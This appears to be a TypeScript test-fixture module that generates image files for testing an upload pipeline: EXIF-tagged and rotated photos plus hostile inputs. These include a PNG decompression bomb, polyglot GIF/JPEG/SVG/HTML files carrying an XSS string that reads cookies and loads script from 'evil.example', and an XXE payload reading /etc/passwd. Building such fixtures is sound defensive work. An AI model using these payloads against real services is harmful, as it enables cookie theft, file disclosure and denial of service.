import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

/** A picture that is not the same everywhere. */
async function noise(width: number, height: number): Promise<Sharp> {
  const grain = { width: 64, height: 48, channels: 3 as const, background: '#888' };
  const made = await sharp({
    create: { ...grain, noise: { type: 'gaussian', mean: 128, sigma: 30 } },
  })
    .png()
    .toBuffer();
  return sharp(made).resize({ width, height, fit: 'fill', kernel: 'nearest' });
}

/** As a phone sends it: with where and when it was taken. */
export async function photo(
  width: number = 640,
  height: number = 480,
  format: 'jpeg' | 'png' | 'webp' = 'jpeg',
): Promise<Buffer> {
  return (await noise(width, height))
    .withExif({
      IFD0: { Copyright: 'Somebody', Model: 'Phone 1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 12/1 0/1' },
    })
    .toFormat(format)
    .toBuffer();
}

/**
 * Left half red, right half blue, stored turned by 90° with the tag that says so.
 * @param times as large as 400 × 300
 */
export async function turnedPhoto(times = 1): Promise<Buffer> {
  const [width, height] = [400 * times, 300 * times];
  const half = (background: string) =>
    sharp({ create: { width: width / 2, height, channels: 3, background } })
      .png()
      .toBuffer();
  const upright = await sharp({
    create: { width, height, channels: 3, background: '#000' },
  })
    .composite([
      { input: await half('#f00'), left: 0, top: 0 },
      { input: await half('#00f'), left: width / 2, top: 0 },
    ])
    .png()
    .toBuffer();
  // Tag 6: to be turned clockwise by whoever shows it.
  return sharp(upright).rotate(270).withMetadata({ orientation: 6 }).jpeg().toBuffer();
}

/** 900 million pixels, one bit each and all alike, in about 110 kB. */
function bomb(): Buffer {
  const side = 30_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  // Each row: how it is filtered, then its bits.
  const rows = Buffer.alloc(side * (1 + side / 8));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.of()),
  ]);
}

export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';

/** What is no picture, or more than one. */
export async function oddFiles(): Promise<Record<string, Buffer>> {
  const jpeg = await photo();
  const commentary = Buffer.from(`*/=1;${script}/*`);
  // FF FE: a comment, with its length.
  const comment = Buffer.concat([
    Buffer.of(0xff, 0xfe, (commentary.length + 2) >> 8, (commentary.length + 2) & 255),
    commentary,
  ]);
  return {
    'a GIF that is a script as well': Buffer.from(`GIF89a=1;${script}`),
    'a PDF called a JPEG': Buffer.from(
      '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>%%EOF',
    ),
    'an SVG': Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
    ),
    'an SVG behind an XML head': Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ),
    'a page': Buffer.from(`<!doctype html><script>${script}</script>`),
    'a JPEG that is a script in its comment': Buffer.concat([
      jpeg.subarray(0, 2),
      comment,
      jpeg.subarray(2),
    ]),
    'a JPEG with a script behind it': Buffer.concat([jpeg, Buffer.from(script)]),
    'a JPEG with an archive behind it': Buffer.concat([jpeg, Buffer.from('PK\x03\x04 x.html')]),
    'a JPEG cut off in the middle': jpeg.subarray(0, jpeg.length >> 1),
    'the head of a JPEG': jpeg.subarray(0, 20),
    'the head of a JPEG with a script': Buffer.concat([
      Buffer.of(0xff, 0xd8, 0xff, 0xe0),
      Buffer.from(script),
    ]),
    'a PNG cut off': (await photo(64, 64, 'png')).subarray(0, 2_000),
    'a WebP cut off': (await photo(64, 64, 'webp')).subarray(0, 400),
    'a PNG of 900 million pixels': bomb(),
    'one byte': Buffer.of(0xff),
    'a program': Buffer.from('\x7fELF\x02\x01\x01'),
  };
}
